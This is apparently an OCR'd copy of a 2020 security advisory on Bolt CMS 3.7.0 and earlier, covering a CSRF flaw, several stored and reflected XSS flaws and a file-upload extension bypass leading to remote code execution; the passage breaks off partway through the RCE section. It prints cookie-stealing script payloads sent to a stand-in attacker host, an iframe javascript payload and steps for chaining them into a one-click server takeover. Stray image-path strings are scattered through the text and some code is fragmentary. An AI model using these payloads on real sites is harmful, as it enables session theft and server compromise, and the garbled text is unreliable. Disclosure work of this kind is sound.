# Bolt CMS <= 3.7.0 Multiple Vulnerabilities #
Author - Sivanesh Ashok | @sivaneshashok |
Date : 2020-03-24
Vendor :
Version : <= 3.7.0
CVE : CVE-2020-4040, CVE-2020-4041
Last Modified: 2020-07-03
--[ Table of Contents
00 - Introduction
01 - Exploit
02 - Cross-Site Request Forgery (CSRF)
02.1 - Source code analysis
02.2 - Exploitation
02.3 - References03 - Cross-Site Scripting (XSS)
03.1 - Preview generator
03.1.1 - Exploitation
03.2 - System Log
03.2.1 - Source code analysis
03.2.2 - Exploitation
03.3 - File name
03.3.1 - Source code analysis
03.3.2 - Exploitation
03.3.3 - References
03.4 - JS file upload
03.4.1 - Exploitation
03.5 - CKEditor4
03.5.1 - Exploitation
04 - Remote Code Execution
04.1 - Source code analysis
04.2 - Exploitation
04.3 - References
05 - Solution
06 - Contact--[ 00 - Introduction
Bolt CMS is an open-source content management tool. This article details
the multiple vulnerabilities that I found in the application. The
vulnerabilities when chained together, resulted in a single-click RCE which
would allow an attacker to remotely take over the server. The link to the
exploit is provided in the next section.
--[ 01 - Exploit
Chaining all the bugs together results in a single-click RCE. The exploit
that does that can be found in the link below.
Host the exploit code in a webpage and send the link to the admin. When the
admin opens the link, backdoor.php gets uploaded and can be accessed via,{insert_cmd_here}
--[ 02 - Cross-Site Request Forgery (CSRF)
Bolt CMS lacks CSRF protection in the preview generating endpoint. Previews
are intended to be generated by the admins, developers, chief-editors, and
editors, who are authorized to create content in the application. But due
to lack of CSRF protection, an unauthorized attacker can generate a
preview. This CSRF by itself does not have ahuge impact. But this will be
used with the XSS, which are described below.
--[ 02.1 - Source code analysis
The preview generation is done
by preview() function which is defined in
vendor/bolt/bolt/src/Controller/Frontend.php:200 and there is no token
verification present in the function.
--[ 02.2 - Exploitation
The request that is can be forged is,----[ request ]----
POST /preview/page HTTP/1.1
Host: localhost
----[ request ]----
To exploit thisvulnerability an attacker has to,
1. Make an HTML page with a form that has the required parameters shown
above. The content_edit[_token] is not required.
2. Use JS to auto-submit the form.
3. Host it on a website and send the link to the victim. i.e., an
authorized user.
When the victim opens the link, the browser will send the request to the
server and will follow the redirect to the preview page.
This CSRF by itself does not have a huge impact. But this will be used with
the XSS, which are described below.
--[ 02.3 - References
[CVE-2020-4040] -
--[ 03 - Cross-Site Scripting (XSS)
The application is vulnerable to XSS in multiple endpoints, which could be
exploited by an attacker to execute javascript code in the context of the
victim user.
--[ 03.1 - Preview generator
The app uses CKEditor to get input from the users and hence any unsafe
inputs are filtered. But the request can be intercepted and manipulated to
add javascript in the content, which gets executed in the preview page.
Hence the preview generator is vulnerable to reflected XSS.
--[ 03.1.1 - Exploitation
----[ request ]----
POST /preview/page HTTP/1.1
Host: localhost
----[ request ]----
----[ response ]----<p class="meta">
Written by <em>Unknown</em> on Monday March 23, 2020
----[ response ]----
As shown above the payload in the request's body parameter is reflected in
the response. An attacker can chain the above explained CSRF with this
vulnerability to execute javascript code on the context of the victim user.
--[ 03.2 - System Log
The 'display name' of the users is vulnerable to stored XSS. The value is
not encoded when displayedin the system log, by the functionality that
logs the event when an authorized user enables, disables or deletes user
accounts. The unencoded 'display name' is displayed in the system log,
hence allowing the execution of javascript in the context of admin ordeveloper since those are the roles that are allowed to access the system
log, by default.
--[ 03.2.1 - Source code analysis
The vulnerability is in the
vendor/bolt/bolt/src/Controller/Backend/Users.php where the user actions
are performed and logged. There are two variables that store and are used
to display user data in this code. $user and $userEntity. It can be seen
that $userEntity is initiated with the values after being passed to
$form->isValid(). This shows that $user has the unencoded input and
$userEntity has the encoded input.
In line 341, the code adds an entry to the log when a user updates their
profile. It can be seen that it uses $userEntity->getDisplayName(), hence
the displayed user input is encoded. But in line 279, there is a switch
case condition that logs the respective actions of enable, disable, delete
in the system log.
----[ code segment ]----
switch ($action) {
case 'disable':
if ($this->users()->setEnabled($id, false)) {
$this->app['logger.system']->info("Disabled user '{$user->getDisplayname()}'.", ['event' => 'security']);
$this->flashes()->info(Trans::__('general.phrase.user-disabled', ['%s' => $user->getDisplayname()]));
} else {
$this->flashes()->info(Trans::__('general.phrase.user-failed-disabled', ['%s' => $user->getDisplayname()]));
case 'enable':
if ($this->users()->setEnabled($id, true)) {
$this->app['logger.system']->info("Enabled user '{$user->getDisplayname()}'.", ['event' => 'security']);
$this->flashes()->info(Trans::__('general.phrase.user-enabled', ['%s' => $user->getDisplayname()]));
} else {
$this->flashes()->info(Trans::__('general.phrase.user-failed-enable', ['%s' => $user->getDisplayname()]));
case 'delete':
if ($this->isCsrfTokenValid() && $this->users()->deleteUser($id)) {
$this->app['logger.system']->info("Deleted user '{$user->getDisplayname()}'.", ['event' => 'security']);
$this->flashes()->info(Trans::__('general.phrase.user-deleted', ['%s' => $user->getDisplayname()]));
} else {$this->flashes()->info(Trans::__('general.phrase.user-failed-delete', ['%s' => $user->getDisplayname()]));
$this->flashes()->error(Trans::__('', ['%s' => $user->getDisplayname()]));
---- [ code segment ]----
As shown above, the code uses $user->getDisplayName() instead of
$userEntity->getDisplayName(), which leads to the display of unencoded user
--[ 03.2.2 - Exploitation
Here is how an attacker with any role can execute javascript code in the
context of the victim.
1. Log in and go to your profile settings and set your display name to
some javascript payload.
For example,
<script>document.write('<img src="https://evil.server/?cookie='+document.cookie+'"/>')</script>
This payload will send the admin's cookies to attacker's server
2. Now request the admin (or the victim user) to disable your account.
When the admin visits the system log or the mini system log that is shown
on the right side of the Users & Permissions page, the payload gets
executed in the admin's browser.
--[ 03.3 - Filename
The file name is vulnerable to stored XSS. It is not possible to inject
javascript code in the file name when creating/uploading the file. But,
once created/uploaded, it can be renamed to inject the payload in it.
--[ 03.3.1 - Source code analysis
The function that is responsible for renaming files is renameFile(), which
is defined in
----[ code segment ]----
public function renameFile(Request $request)
// Verify CSRF token
$namespace =$request->request->get('namespace');
$parent = $request->request->get('parent');
$oldName = $request->request->get('oldname');
// value assigned without any validation
$newName = $request->request->get('newname');
if (!$this->isExtensionChangedAndIsChangeAllowed($oldName, $newName)) {
return $this->json(Trans::__('general.phrase.only-root-change-file-extensions'), Response::HTTP_FORBIDDEN);
if ($this->validateFileExtension($newName) === false) {
return $this->json( sprintf("File extension not allowed: %s", $newName), Response::HTTP_BAD_REQUEST);
try {
// renaming with the same unvalidated value$this->filesystem()->rename("$namespace://$parent/$oldName","$parent/$newName");
return $this->json($newName, Response::HTTP_OK);
} catch (ExceptionInterface $e) {
$msg = Trans::__('Unable to rename file: %FILE%', ['%FILE%' => $oldName]);
$this->logException($msg, $e);
if ($e instanceof FileExistsException) {
$status = Response::HTTP_CONFLICT;
} elseif ($e instanceof FileNotFoundException) {
$status =Response::HTTP_NOT_FOUND;
} else {
$status = Response::HTTP_INTERNAL_SERVER_ERROR;
return $this->json($msg, $status);
----[ code segment ]----
As shown above, $newName is initiated with value directly from the request,
without any validation or filtering. This allows an attacker to inject
javascript code in the name while renaming, making it vulnerable to stored
A interesting thing is, if the server is hosted on Windows it is not
possible to create files with special characters like <, >. So if this
attack is tried on Bolt CMS that is hosted on Windows it will not work. But
Linux allows special characters in file names. So, this works only if the
application is hosted on a Linux machine.
--[ 03.3.2 - Exploitation
1. Create or upload a file.
2. Rename itto inject javascript code in it.
For example,
<script>document.write('<img src="https://evil.server/?cookie='+document.cookie+'"/>')</script>
This payload will send the victim's cookies to attacker's server
3. When the admin (or the victim user) visits the file management page, the
payload gets executed.
--[ 03.3.3 - References
[CVE-2020-4041] -
--[ 03.4 - JS file upload
This stored XSS is a logical flaw in the application. By default in the
config.yml file, the application allows the following file types.
----[ code segment ]----
accept_file_types: [ twig, html, js, css, scss, gif, jpg, jpeg, png,
ico, zip, tgz, txt, md, doc, docx, pdf, epub, xls, xlsx, ppt, pptx, mp3,
ogg, 1wav, m4a, mp4, m4v, ogv, wmv, avi, webm, svg ]
----[ code segment ]----
It can be seen that it allows js and HTML files.
--[ 03.4.1 - Exploitation
An attacker with permission to upload files can exploit this to to upload
an HTML file with some javascript in it or include the uploaded js file
into the HTML. When the victim visits the uploaded file, the javascript
code gets executed in the context of the victim.
--[ 03.5 - CKEditor4
Bolt CMS uses CKEditor4 in the blogs to get input. CKEditor4 by default
filters malicious HTML attributes but not the src attribute. So, it can be
exploited by using javscript URL in the src of an iframe. It is important
to not rely on CKEditor4 for XSS prevention since it is only a client side
filter, and not a server-side validator.
--[ 03.5.1 - Exploitation
To exploit this vulnerability, an attacker with permission to create/edit
blogs should,
1. Open the 'New Blog' page.
2. Select the 'source mode' in CKEditor4 and enter the payload
<iframesrc=javascript:alert(1)>
3. (optional) Switch back to WYSIWYG mode.
4. Post the blog.
When the victim visits the blog, the javascript code gets executed in the
context of the victim.
Now, all these XSS vulnerabilities on the surface look like simple
privilege escalation for an already authorized user, except for the preview
generator. But chaining thesewith the CSRF, any unauthorized attacker can
gain admin privileges, with little to no social engineering.
--[ 04 - Remote Code Execution
The application does not allow the upload of files with 'unsafe'
extensions, which include php and it's alternatives. But I bypassed this
protection by crafting a file name that abuses the sanitization functions.
An attacker with permissions to upload files can exploit this to upload php
files and execute code on the server.
This vulnerability was chained with the above mentioned CSRF and XSS to
achieve single-click RCE.
--[ 04.1 - Source code analysis
The function that validates the extension is validateFileExtension() which
is defined
----[ code segment ]----
private function validateFileExtension($filename)
// no UNIX-hidden files
if ($filename[0] === '.') {
return false;
// only whitelisted extensions
$extension = pathinfo($filename, PATHINFO_EXTENSION);
$allowedExtensions =$this->getAllowedUploadExtensions();
return $extension === '' || in_array(mb_strtolower($extension),
----[ code segment ]----
As shown in the above code segment, the return value returns a value if the
extension is '' or if it is an allowed extension. The function allows
files with no extension. So, I tried to upload a file with the name
